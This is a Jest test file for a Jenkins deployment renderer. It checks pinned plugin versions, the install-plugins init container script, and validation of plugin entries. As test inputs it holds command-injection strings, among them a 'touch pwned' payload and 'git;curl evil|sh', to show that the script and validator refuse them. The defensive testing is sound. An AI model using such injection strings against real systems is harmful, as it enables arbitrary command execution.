// Plugins that hold: the default list is pinned to versions released with the default image's LTS, every entry a
// user writes is pinned unless they write id:latest, and the install script marks each download `.override` so the
// image's start script puts exactly these versions on the volume (downgrades included).
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { defaultCascDir, parseValues, resolveSpec, SpecError, type Values } from '../../src/instance/index.js';
import { PINNED_PLUGINS } from '../../src/instance/plugins.js';
import { controllerPlugins, PLUGIN_DOWNLOAD_DIR, PLUGIN_INSTALL_SCRIPT } from '../../src/render/plugins.js';
import { objectOf, render, type Loose } from '../helpers/render.js';

const podOf = (values: Values): Loose => (objectOf(render(values), 'StatefulSet') as Loose).spec.template.spec;
const installOf = (values: Values): Loose => podOf(values).initContainers.find((c: Loose) => c.name === 'install-plugins');
const defaults = parseValues(readFileSync(join(defaultCascDir(), 'defaults.yaml'), 'utf8'), 'defaults.yaml') as Loose;
const REQUIRED = ['kubernetes', 'configuration-as-code'];

describe('the default plugin list', () => {
  it('is pinned, every entry, to the versions of the table the bare ids resolve to', () => {
    const list: string[] = defaults.controller.plugins;
    expect(list.map((e) => e.split(':')[0])).toEqual(['kubernetes', 'workflow-aggregator', 'git', 'configuration-as-code']);
    for (const entry of list) {
      const [id, version] = entry.split(':') as [string, string | undefined];
      expect({ entry, version }).toEqual({ entry, version: PINNED_PLUGINS[id] });
    }
    expect(installOf({ name: 'ci' }).args).toEqual(list);
  });

  it('runs on the LTS image those versions were released with, not a floating tag', () => {
    expect(defaults.controller.image).toBe('jenkins/jenkins:2.568.2-jdk21');
    const pod = podOf({ name: 'ci' });
    for (const c of [...pod.initContainers.filter((i: Loose) => i.name !== 'casc-init'), pod.containers[0]]) expect(c.image).toBe('jenkins/jenkins:2.568.2-jdk21');
  });
});

describe('the install-plugins init container', () => {
  it('runs a fixed script that takes the plugin entries as its arguments', () => {
    const install = installOf({ name: 'ci', controller: { plugins: [...REQUIRED, 'git:latest'] } });
    expect(install.command).toEqual(['sh', '-c', PLUGIN_INSTALL_SCRIPT, 'install-plugins']);
    expect(install.args).toEqual([`kubernetes:${PINNED_PLUGINS.kubernetes}`, `configuration-as-code:${PINNED_PLUGINS['configuration-as-code']}`, 'git:latest']);
    // Dependencies at the versions the pinned plugins ask for, and every download marked to replace the volume's copy.
    expect(PLUGIN_INSTALL_SCRIPT).toContain('--latest false');
    expect(PLUGIN_INSTALL_SCRIPT).toContain('--plugins "$@"');
    expect(PLUGIN_INSTALL_SCRIPT).toMatch(/mv -f "\$f" "\$f\.override"/);
  });

  it('downloads where the controller reads its ref plugins from (one emptyDir), and no longer leans on PLUGINS_FORCE_UPGRADE', () => {
    const pod = podOf({ name: 'ci' });
    const install = pod.initContainers.find((c: Loose) => c.name === 'install-plugins');
    const jenkins = pod.containers.find((c: Loose) => c.name === 'jenkins');
    const downloads = install.volumeMounts.find((m: Loose) => m.mountPath === PLUGIN_DOWNLOAD_DIR);
    expect(jenkins.volumeMounts.find((m: Loose) => m.mountPath === '/usr/share/jenkins/ref/plugins').name).toBe(downloads.name);
    expect(pod.volumes.find((v: Loose) => v.name === downloads.name)).toEqual({ name: downloads.name, emptyDir: {} });
    expect(jenkins.env.map((e: Loose) => e.name)).not.toContain('PLUGINS_FORCE_UPGRADE');
  });
});

/** Runs the rendered script with `sh` against a stand-in jenkins-plugin-cli that records its argv and writes <id>.jpi. */
describe('the install script, run by a shell', () => {
  let work: string;
  let downloads: string;
  let env: NodeJS.ProcessEnv;
  beforeAll(() => {
    work = mkdtempSync(join(tmpdir(), 'plugins-script-'));
    downloads = join(work, 'downloads');
    const bin = join(work, 'bin');
    for (const d of [downloads, bin]) execFileSync('mkdir', ['-p', d]);
    const cli = join(bin, 'jenkins-plugin-cli');
    writeFileSync(cli, [
      '#!/bin/sh',
      `printf '%s\\n' "$@" > "${work}/argv"`,
      'dir=""; prev=""',
      'for a in "$@"; do [ "$prev" = --plugin-download-directory ] && dir="$a"; prev="$a"; done',
      'seen=0',
      // Only plain entries become files: the hostile case below must reach argv, not the file system.
      'for a in "$@"; do',
      '  if [ $seen = 1 ]; then case "$a" in *[!A-Za-z0-9_.:-]*) ;; *) : > "$dir/${a%%:*}.jpi" ;; esac; fi',
      '  [ "$a" = --plugins ] && seen=1',
      'done',
      'exit 0',
      '',
    ].join('\n'));
    chmodSync(cli, 0o755);
    env = { PATH: `${bin}:/usr/bin:/bin` };
  });
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  const run = (entries: string[]) =>
    execFileSync('sh', ['-c', PLUGIN_INSTALL_SCRIPT.replaceAll(PLUGIN_DOWNLOAD_DIR, downloads), 'install-plugins', ...entries], { env, encoding: 'utf8' });

  it('hands each entry to jenkins-plugin-cli as one argument and leaves only .override files', () => {
    run(['kubernetes:4540.v612369217f87', 'git:latest']);
    const argv = readFileSync(join(work, 'argv'), 'utf8').trimEnd().split('\n');
    expect(argv).toEqual(['--verbose', '--latest', 'false', '--plugin-download-directory', downloads, '--plugins', 'kubernetes:4540.v612369217f87', 'git:latest']);
    expect(readdirSync(downloads).sort()).toEqual(['git.jpi.override', 'kubernetes.jpi.override']);
  });

  it('never runs what an argument says (the shell only ever sees "$@")', () => {
    const hostile = `x;touch ${work}/pwned;$(touch ${work}/pwned2)\`touch ${work}/pwned3\``;
    run(['kubernetes:1', hostile]);
    expect(readFileSync(join(work, 'argv'), 'utf8').trimEnd().split('\n').at(-1)).toBe(hostile);
    expect(readdirSync(work).filter((f) => f.startsWith('pwned'))).toEqual([]);
  });
});

describe('controller.plugins entries', () => {
  it('keeps id:latest only where the user wrote it, pinning every other entry', () => {
    const args: string[] = installOf({ name: 'ci', controller: { plugins: [...REQUIRED, 'workflow-aggregator', 'blueocean:latest', 'git:5.7.0'] } }).args;
    expect(args).toEqual([
      `kubernetes:${PINNED_PLUGINS.kubernetes}`,
      `configuration-as-code:${PINNED_PLUGINS['configuration-as-code']}`,
      `workflow-aggregator:${PINNED_PLUGINS['workflow-aggregator']}`,
      'blueocean:latest',
      'git:5.7.0',
    ]);
    expect(args.filter((a) => a.endsWith(':latest'))).toEqual(['blueocean:latest']);
  });

  it('refuses a bare id jenkins-chatops has no version for, saying how to pin it or ask for latest', () => {
    const attempt = () => resolveSpec([{ values: { name: 'ci', controller: { plugins: [...REQUIRED, 'blueocean'] } } }]);
    expect(attempt).toThrow(SpecError);
    expect(attempt).toThrow(/controller\.plugins\[2\]: plugin blueocean has no version pinned.*blueocean:<version>.*blueocean:latest/);
  });

  it.each([
    ['git@5', /controller\.plugins\[2\]: plugins are written id or id:version .* or id:latest/],
    ['--war', /controller\.plugins\[2\]: .*each part starting with a letter or digit/],
    ['git:-1', /controller\.plugins\[2\]: .*each part starting with a letter or digit/],
    ['git:5.7.0:https://evil.example/git.hpi', /controller\.plugins\[2\]: plugins are written/],
    ['incrementals;org.jenkins-ci.plugins;git;5', /controller\.plugins\[2\]: plugins are written/],
    ['git;curl evil|sh', /controller\.plugins\[2\]: plugins are written/],
    ['git\n- --war', /controller\.plugins\[2\]: plugins are written/],
    ['git:experimental', /controller\.plugins\[2\]: git:experimental is not accepted; write git:<version> .* or git:latest/],
    ['kubernetes:1.0', /controller\.plugins\[2\]: plugin kubernetes is listed twice \(also at controller\.plugins\[0\]\); keep one entry: change that one to kubernetes:1\.0/],
  ])('refuses %j with an error naming the entry and the allowed forms', (entry, message) => {
    const attempt = () => resolveSpec([{ values: { name: 'ci', controller: { plugins: [...REQUIRED, entry] } } }]);
    expect(attempt).toThrow(SpecError);
    expect(attempt).toThrow(message);
  });

  it('says one thing per bad entry (a malformed one is not also called unpinned)', () => {
    let error: SpecError | undefined;
    try {
      resolveSpec([{ values: { name: 'ci', controller: { plugins: [...REQUIRED, '--war'] } } }]);
    } catch (e) {
      error = e as SpecError;
    }
    expect(error?.issues.map((i) => i.path)).toEqual(['controller.plugins[2]']);
  });
});

describe('plugins a feature needs', () => {
  const spec = (plugins: string[]) => resolveSpec([{ values: { name: 'ci', controller: { plugins } } }]);

  it('are added at the pinned version, or left as the user wrote them', () => {
    expect(controllerPlugins(spec(REQUIRED), ['prometheus'])).toContain(`prometheus:${PINNED_PLUGINS.prometheus}`);
    const mine = controllerPlugins(spec([...REQUIRED, 'prometheus:latest']), ['prometheus', 'credentials']);
    expect(mine.filter((e) => e.startsWith('prometheus'))).toEqual(['prometheus:latest']);
    expect(mine).toContain(`credentials:${PINNED_PLUGINS.credentials}`);
  });
});
